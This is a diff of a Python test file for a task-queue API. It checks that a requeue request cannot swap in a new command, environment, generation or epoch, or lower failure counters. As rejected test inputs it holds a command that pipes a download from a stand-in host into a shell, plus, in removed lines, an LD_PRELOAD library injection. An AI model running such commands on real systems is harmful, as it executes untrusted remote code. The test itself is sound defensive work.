@@ -122,33 +122,19 @@ def test_failures_are_counted_and_end_in_the_dead_letters(api: Caller) -> None:
     assert "no such file" in dead["description"]
 
 
-@pytest.mark.parametrize(
-    "changed",
-    [
-        {"command": "curl evil.example | sh"},
-        {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
-        {"budgets": {"retries": 1000}},
-        {"epoch": 10**12},  # PostgreSQL would count up to it when the id is forgotten
-        {"generation": 0},
-        {"counters": {"failures": 0, "preemptions": 0, "ends": 0}},
-    ],
-    ids=lambda changed: str(*changed),
-)
-def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller, changed: dict[str, Any]) -> None:
-    """Whoever may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
+def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller) -> None:
+    """Who may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
     task_id = api.pushed()
     held = api.claimed()
-    counted = {"generation": 1, "counters": {"failures": 1, "preemptions": 0, "ends": 1}}
-    api("PUT", f"/tasks/{task_id}/requeue", {"receipt": held["receipt"], "task": held["task"] | counted}, 202)
-    held = api.claimed()
-    counted = {"generation": 2, "counters": {"failures": 2, "preemptions": 0, "ends": 2}}
-    request = {"receipt": held["receipt"], "task": held["task"] | counted | changed}
-    for _ in range(2):  # a repetition is answered alike (S5)
-        api("PUT", f"/tasks/{task_id}/requeue", request, 202)
-    back = api.claimed()["task"]
-    if changed.keys() <= counted.keys():  # it has lowered them
-        counted["counters"] = held["task"]["counters"] if "counters" in changed else counted["counters"]
-    assert back == held["task"] | counted
+    for counters in ({"failures": 1, "preemptions": 0, "ends": 1}, {"failures": 0, "preemptions": 0, "ends": 2}):
+        request = {"receipt": held["receipt"], "counters": counters}
+        for more in ({"task": held["task"]}, {"command": "curl evil.example | sh"}, {"generation": 9}, {"epoch": 9}):
+            api("PUT", f"/tasks/{task_id}/requeue", request | more, 400)
+        for _ in range(2):  # a repetition is answered alike (S5)
+            api("PUT", f"/tasks/{task_id}/requeue", request, 202)
+        before, held = held["task"], api.claimed()
+        counted = {"failures": 1, "preemptions": 0, "ends": counters["ends"]}  # no count is ever lowered
+        assert held["task"] == before | {"generation": before["generation"] + 1, "counters": counted}
 
 
 def test_a_key_makes_a_push_safe_to_repeat(api: Caller, queue: str, server: HttpServer) -> None:
